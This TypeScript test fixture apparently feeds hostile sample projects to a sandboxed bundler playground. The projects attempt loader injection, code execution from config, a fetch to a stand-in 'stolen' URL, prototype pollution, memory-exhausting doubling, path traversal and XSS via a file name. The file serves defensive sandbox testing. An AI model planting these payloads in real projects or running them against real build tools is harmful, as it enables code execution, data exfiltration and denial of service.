import type { ProjectFiles } from '../../src/playground/protocol.ts';

const evil = `const home = 'https://example.com/stolen';
globalThis.__reached = true;
try { fetch(home); } catch {}
try { new XMLHttpRequest().open('GET', home); } catch {}
try { new WebSocket('wss://example.com'); } catch {}
try { new Worker(home); } catch {}
module.exports = function (source) { globalThis.__reached = true; fetch(home); return source; };
module.exports.pitch = module.exports;
`;

const config = (value: string, imports = ''): string =>
  `import { defineConfig } from '@rslib/core';\n${imports}\nexport default defineConfig(${value});\n`;
const esm = config(`{ lib: [{ format: 'esm' }] }`);
const web = config(`{ lib: [{ format: 'esm' }], output: { target: 'web' } }`);

const project = (files: ProjectFiles, configText = esm): ProjectFiles => ({
  'package.json': '{ "name": "attack", "version": "1.0.0", "type": "module" }',
  'src/index.js': 'export const a = 1;\n',
  'src/evil.js': evil,
  'rslib.config.ts': configText,
  ...files,
});

const request = (loader: string): ProjectFiles =>
  project({ 'src/index.js': `import x from '${loader}';\nexport { x };\n` }, web);
const css = (text: string, more: ProjectFiles = {}): ProjectFiles =>
  project({ 'src/index.js': `import './a.css';\n`, 'src/a.css': text, ...more }, web);
const withConfig = (value: string, imports?: string): ProjectFiles =>
  project({}, config(value, imports));

const node = '/node_modules';

const less = config(
  `{ lib: [{ format: 'esm' }], output: { target: 'web' }, plugins: [pluginLess()] }`,
  `import { pluginLess } from '@rsbuild/plugin-less';`,
);
const svgr = config(
  `{ lib: [{ format: 'esm' }], output: { target: 'web' }, plugins: [pluginReact(), pluginSvgr()] }`,
  `import { pluginReact } from '@rsbuild/plugin-react';\nimport { pluginSvgr } from '@rsbuild/plugin-svgr';`,
);

/**
 * Projects that try to run code, to reach the network, to leave their folder, or to exhaust the
 * compiler.
 */
export const attacks: Record<string, ProjectFiles> = {
  'inline request of the CSS extractor': request(
    `!!${node}/@rslib/core/dist/libCssExtractLoader.js!./evil.js`,
  ),
  'inline request of css-loader': request(
    `!!${node}/@rsbuild/core/compiled/css-loader/index.js!./evil.js`,
  ),
  'inline request of a file as loader': request('!!./evil.js!./index.js'),
  'inline request of Rspack’s extractor': request(
    `!!${node}/@rspack/core/dist/cssExtractLoader.js!./evil.js`,
  ),
  'inline request of a transform': request(
    `!!${node}/@rsbuild/core/dist/transformLoader.mjs?{"id":"0"}!./evil.js`,
  ),
  'inline match resource': request('./a.css!=!./evil.js'),
  'a file under the name of css-loader’s runtime': request(
    `!!${node}/@rslib/core/dist/libCssExtractLoader.js!${node}/@rsbuild/core/compiled/css-loader/../../../../../project/src/evil.js`,
  ),
  'a loader of tools.rspack': withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: { module: { rules: [{ test: /\\.js$/, loader: '/project/src/evil.js' }] } } } }`,
  ),
  'a rule of type module': withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: { module: { rules: [{ test: /\\.js$/, use: ['file:///project/src/evil.js'], type: 'javascript/esm' }] } } } }`,
  ),
  resolveLoader: withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: { resolveLoader: { alias: { 'builtin:swc-loader': '/project/src/evil.js' } } } } }`,
  ),
  'a plugin by name': withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: { plugins: ['./src/evil.js'] } } }`,
  ),
  'a PostCSS config': css('a { color: red }', {
    'postcss.config.cjs': evil,
    'postcss.config.mjs': evil,
  }),
  'an import of ICSS': css(':import("!!./evil.js") { x: y }\n:export { z: x }\n.a { color: x }'),
  'an import of a script in CSS': css(
    '@import "./evil.js";\n@import url(https://example.com/a.css);',
  ),
  'names that end a string': css(
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template literal in the output
    '.a { content: "`+fetch(1)+`${fetch(2)}"; }\n.b\\"\\`\\${x} { margin: 0 }',
  ),
  'a function in the config': withConfig(
    `{ lib: [{ format: 'esm' }], tools: { rspack: (c) => { fetch('/'); } } }`,
  ),
  'a constructor in the config': withConfig(`{ lib: [].constructor.constructor('fetch("/")')() }`),
  'a tagged template in the config': withConfig('{ lib: [{ format: String.raw`esm` }] }'),
  'a getter in the config': withConfig(`{ get lib() { return fetch('/'); } }`),
  '__proto__ as a key': withConfig(`{ lib: [{ format: 'esm', __proto__: { bundle: false } }] }`),
  '__proto__ as a computed key': withConfig(`{ ['__pro' + 'to__']: { polluted: 1 } }`),
  '__proto__ in JSON': project(
    { 'x.json': '{ "__proto__": { "polluted": 1 } }' },
    config('{ ...x }', `import x from './x.json';`),
  ),
  'an import of a built-in': withConfig('{ a: fs }', `import fs from 'node:fs';`),
  'a dynamic import in the config': withConfig(`{ lib: import('./src/evil.js') }`),
  'a list that doubles': project(
    {},
    `const a0 = [1, 1];\n${Array.from({ length: 40 }, (_, i) => `const a${i + 1} = [...a${i}, ...a${i}];`).join('\n')}\nexport default { lib: a40 };\n`,
  ),
  'a text that doubles': project(
    {},
    `const a0 = 'aaaaaaaaaa';\n${Array.from({ length: 40 }, (_, i) => `const a${i + 1} = a${i} + a${i};`).join('\n')}\nexport default { lib: [{ id: a40 }] };\n`,
  ),
  'ten thousand libs': withConfig(`{ lib: [${`{ format: 'esm' },`.repeat(10_000)}] }`),
  'a file path that leads out': project({ '../../node_modules/@rslib/core/package.json': '{}' }),
  'an output path that leads out': withConfig(
    `{ lib: [{ format: 'esm' }], output: { distPath: { root: '../node_modules/@rslib/core' }, cleanDistPath: true } }`,
  ),
  'an output name that leads out': withConfig(
    `{ lib: [{ format: 'esm' }], output: { filename: { js: '../../node_modules/@rsbuild/core/package.json' } } }`,
  ),
  'inline JavaScript of Less': project(
    {
      'src/index.js': `import './a.less';\n`,
      'src/a.less': '@plugin "./evil.js";\n@x: `fetch("https://example.com")`;\n.a { width: @x }',
    },
    less,
  ),
  'a config of SVGR': project(
    {
      'src/index.js': `import x from './a.svg?react';\nexport { x };\n`,
      'src/a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(1)</script></svg>',
      '.svgrrc.js': evil,
      'svgo.config.js': evil,
    },
    svgr,
  ),
  'a file name with markup': project({
    'src/<img src=x onerror=fetch(1)>.js': 'export {};\n',
    'src/index.js': `import './<img src=x onerror=fetch(1)>.js';\n`,
  }),
};

/** A harmless project, to verify that an attack has no lasting effect. */
export const honest = project({ 'src/index.js': 'export const answer = 42;\n' });
